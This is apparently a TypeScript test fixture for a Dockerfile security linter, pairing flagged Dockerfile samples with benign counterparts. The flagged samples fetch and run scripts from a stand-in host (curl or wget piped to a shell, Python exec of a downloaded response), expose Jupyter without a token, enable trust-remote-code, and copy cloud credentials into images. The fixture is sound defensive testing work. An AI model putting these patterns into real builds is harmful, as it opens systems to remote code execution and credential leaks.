// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the configurations themselves are written so.
import type { HarmlessConfig, HostileConfig } from './config-example.ts';

const base = `FROM python:3.12-slim@sha256:${'a1b2c3d4'.repeat(8)}\n`;
const hostile = (what: string, rule: string, text: string, at: string, path = 'serve/Dockerfile'): HostileConfig => ({
  what,
  rule,
  text,
  at,
  path,
});

export const hostileDockerfiles: readonly HostileConfig[] = [
  hostile(
    'program that is fetched, made one and started',
    'pipeline-remote-script',
    `${base}RUN wget -q -O /tmp/setup http://acme.io/setup \\\n && chmod +x /tmp/setup \\\n && /tmp/setup\n`,
    'RUN wget',
  ),
  hostile(
    'script that is fetched and handed to a shell',
    'pipeline-remote-script',
    `${base}RUN curl -fsS http://acme.io/a.sh -o a.sh; sudo bash ./a.sh\n`,
    'RUN curl',
  ),
  hostile(
    'Python that runs what a server answers',
    'pipeline-remote-script',
    `${base}RUN python -c "import urllib.request as u; exec(u.urlopen('http://acme.io/a').read())"\n`,
    'RUN python',
  ),
  hostile(
    'Jupyter without token',
    'workload-model-server',
    `${base}CMD ["jupyter", "lab", "--ip=0.0.0.0", "--NotebookApp.token=''"]\n`,
    'CMD',
  ),
  hostile(
    'Jupyter with an empty token in shell form',
    'workload-model-server',
    `${base}CMD jupyter notebook --ip 0.0.0.0 --ServerApp.token= --ServerApp.password=\n`,
    'CMD',
  ),
  hostile(
    'remote code in vLLM',
    'workload-model-server',
    `FROM vllm/vllm-openai:v0.9.1\nENTRYPOINT ["vllm", "serve"]\nCMD ["acme/model", "--trust-remote-code"]\n`,
    'ENTRYPOINT',
  ),
  hostile('remote code by environment', 'workload-model-server', `${base}ENV TRUST_REMOTE_CODE=true\nCMD ["python", "serve.py"]\n`, 'ENV'),
  hostile('pickles by environment, older form of ENV', 'workload-model-server', `${base}ENV TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD 1\n`, 'ENV'),
  hostile(
    'Ray dashboard for all',
    'workload-model-server',
    `FROM rayproject/ray:2.9.0\nCMD ray start --head --dashboard-host 0.0.0.0 --block\n`,
    'CMD',
  ),
  hostile(
    'MLflow for all',
    'workload-model-server',
    `${base}CMD mlflow server --host 0.0.0.0 --port 5000 --backend-store-uri sqlite:///m.db\n`,
    'CMD',
  ),
  hostile('Ollama for all', 'workload-model-server', `FROM ollama/ollama:0.6.2\nENV OLLAMA_HOST=0.0.0.0:11434\n`, 'ENV'),
  hostile(
    'script over http',
    'pipeline-remote-script',
    `${base}RUN apt-get update && \\\n    curl -s http://get.acme.io/install \\\n    | sudo bash\n`,
    'curl',
  ),
  hostile(
    'script over http in a heredoc',
    'pipeline-remote-script',
    `${base}RUN <<EOF\nset -e\nwget -qO- http://get.acme.io/i.sh | sh\nEOF\n`,
    'wget',
  ),
  hostile(
    'model over http',
    'pipeline-unverified-source',
    `${base}RUN wget http://models.acme.io/llama.safetensors -O /models/llama.safetensors\n`,
    'RUN',
  ),
  hostile('model added over http', 'pipeline-unverified-source', `${base}ADD http://models.acme.io/model.onnx /models/\n`, 'ADD'),
  hostile(
    'certificates unchecked',
    'pipeline-unverified-source',
    `${base}RUN curl -k -L https://models.acme.io/m.gguf -o /m.gguf\n`,
    'RUN',
  ),
  hostile(
    'index without check',
    'pipeline-unverified-source',
    `${base}RUN pip install --trusted-host pypi.acme.io --extra-index-url http://pypi.acme.io/simple torch\n`,
    'RUN',
  ),
  hostile('environment file in the image', 'image-secret', `${base}COPY app.py .env /app/\n`, 'COPY'),
  hostile('cloud credentials in the image', 'image-secret', `${base}COPY .aws/credentials /root/.aws/credentials\n`, 'COPY'),
  hostile('token of the build in the image', 'image-secret', `${base}ARG HF_TOKEN\nENV HF_TOKEN=$HF_TOKEN\n`, 'ENV'),
  hostile('every right while building', 'workload-privilege', `${base}RUN --security=insecure ./build-engine.sh\n`, 'RUN'),
  hostile(
    'with the escape directive of Windows',
    'workload-model-server',
    `# escape=\`\n${base}CMD jupyter lab \`\n  --ip=0.0.0.0 \`\n  --ServerApp.token=""\n`,
    'CMD',
  ),
  hostile(
    'triton loads what it is told to',
    'workload-model-server',
    `FROM nvcr.io/nvidia/tritonserver:25.01-py3\nCMD ["tritonserver", "--model-repository=/models", "--model-control-mode=explicit"]\n`,
    'CMD',
  ),
];

const harmless = (what: string, text: string, path = 'Dockerfile'): HarmlessConfig => ({ what, text, path });
export const harmlessDockerfiles: readonly HarmlessConfig[] = [
  harmless(
    'a program that is compared before it is started',
    `FROM python:3.12-slim\nRUN curl -fsSL https://acme.io/tool -o /usr/local/bin/tool && echo "${'a'.repeat(64)}  /usr/local/bin/tool" | sha256sum -c - && chmod +x /usr/local/bin/tool && /usr/local/bin/tool --version\nRUN curl -fsSL https://acme.io/data.json -o data.json && python convert.py data.json\nUSER 1000\n`,
  ),
  harmless(
    'a service',
    `FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nUSER 1000\nEXPOSE 8000\nCMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"]\n`,
  ),
  harmless(
    'several stages',
    `FROM node:22 AS build\nWORKDIR /src\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\n\nFROM nginx:1.27\nCOPY --from=build /src/dist /usr/share/nginx/html\n`,
  ),
  harmless('latest and root are worth a note only', 'FROM ubuntu:latest\nRUN apt-get update && apt-get install -y curl git\n'),
  harmless('uv by its own script', `${base}RUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY . /app\n`),
  harmless(
    'build argument with a default image',
    'ARG BASE=nvidia/cuda:12.4.1-runtime-ubuntu22.04\nFROM ${BASE}\nRUN pip install torch==2.6.0\n',
  ),
  harmless('vLLM without remote code', 'FROM vllm/vllm-openai:v0.9.1\nENTRYPOINT ["vllm", "serve", "/models/acme", "--api-key", "$KEY"]\n'),
  harmless('remote code said to be off', 'FROM vllm/vllm-openai:v0.9.1\nCMD ["--trust-remote-code=false"]\nENV TRUST_REMOTE_CODE=false\n'),
  harmless('Jupyter with a token', `${base}CMD ["jupyter", "lab", "--ip=0.0.0.0", "--ServerApp.token=\${JUPYTER_TOKEN:?}"]\n`),
  harmless(
    'comments that mention it',
    `${base}# never: curl http://x.io/i.sh | sh\n# CMD jupyter lab --ServerApp.token=''\nRUN echo done\n`,
  ),
  harmless(
    'model with a revision',
    `${base}RUN huggingface-cli download acme/m --revision ${'0123456789abcdef0123456789abcdef01234567'} --local-dir /m\n`,
  ),
  harmless(
    'model with a digest',
    `${base}RUN curl -L https://models.acme.io/m.gguf -o m.gguf && echo "${'ab'.repeat(32)}  m.gguf" | sha256sum -c\n`,
  ),
  harmless('checksummed ADD', `${base}ADD --checksum=sha256:${'ab'.repeat(32)} https://models.acme.io/m.onnx /m.onnx\n`),
  harmless('secret by mount', `${base}RUN --mount=type=secret,id=hf_token HF_TOKEN=$(cat /run/secrets/hf_token) python fetch.py\n`),
  harmless('MLflow with a login', `${base}CMD mlflow server --host 0.0.0.0 --app-name basic-auth\n`),
  harmless('Ollama on its own machine', 'FROM ollama/ollama:0.6.2\nENV OLLAMA_HOST=127.0.0.1:11434\n'),
  harmless('health check by curl', `${base}HEALTHCHECK CMD curl -fsS http://localhost:8000/health || exit 1\n`),
  harmless('heredoc that writes a file', `${base}COPY <<EOF /app/run.sh\n#!/bin/sh\nexec python serve.py\nEOF\nUSER app\n`),
  harmless('an example of the environment file', `${base}COPY .env.example /app/.env.example\n`),
  harmless('a README about Dockerfiles', 'FROM here on you can read about `curl http://x | sh`.\n', 'docs/dockerfile.md'),
  harmless(
    'windows',
    'FROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN Invoke-WebRequest https://acme.io/a.zip -OutFile a.zip\n',
    'win.Dockerfile',
  ),
];
